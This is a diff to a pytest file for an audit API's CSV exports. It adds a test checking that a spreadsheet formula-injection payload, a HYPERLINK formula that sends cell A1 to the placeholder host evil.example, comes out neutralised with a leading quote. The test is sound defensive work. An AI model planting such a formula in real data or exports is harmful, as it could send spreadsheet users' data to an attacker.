@@ -8,6 +8,7 @@ import json
 
 import pytest
 
+from api.audit.exports import neutralise
 from api.auth.models import Role
 from tests.audit.conftest import Activity, AuditWorld
 from tests.world import assert_problem
@@ -79,9 +80,16 @@ def test_auditor_routes_refuse_every_other_role(indexed: AuditWorld) -> None:
     assert aw.client.post("/audit/holders", headers=auditor.headers).status_code == 405
 
 
-def test_exports_stream_and_equal_the_lists(indexed: AuditWorld) -> None:
+def test_exports_stream_and_equal_the_lists(indexed: AuditWorld, activity: Activity) -> None:
     aw = indexed
+    # A reason a spreadsheet would run as a formula: the CSV shows it as text (OWASP).
+    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    activity.retire(aw.platform.accounts.bob, 5, reason=formula)
+    aw.index()
     headers = aw.auditor().headers
+    retirements = aw.client.get("/audit/retirements/export", headers=headers)
+    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(retirements.text))]
+    assert "'" + formula in reasons and formula not in reasons
     for path in LISTS:
         listed = _all(aw, path, headers)
         assert listed, path
@@ -103,6 +111,8 @@ def test_exports_stream_and_equal_the_lists(indexed: AuditWorld) -> None:
                 )
                 if isinstance(expected, bool):
                     expected = str(expected)
+                if isinstance(expected, str):
+                    expected = neutralise(expected)
                 assert row[key] == ("" if expected is None else str(expected)), (path, key)
 
 
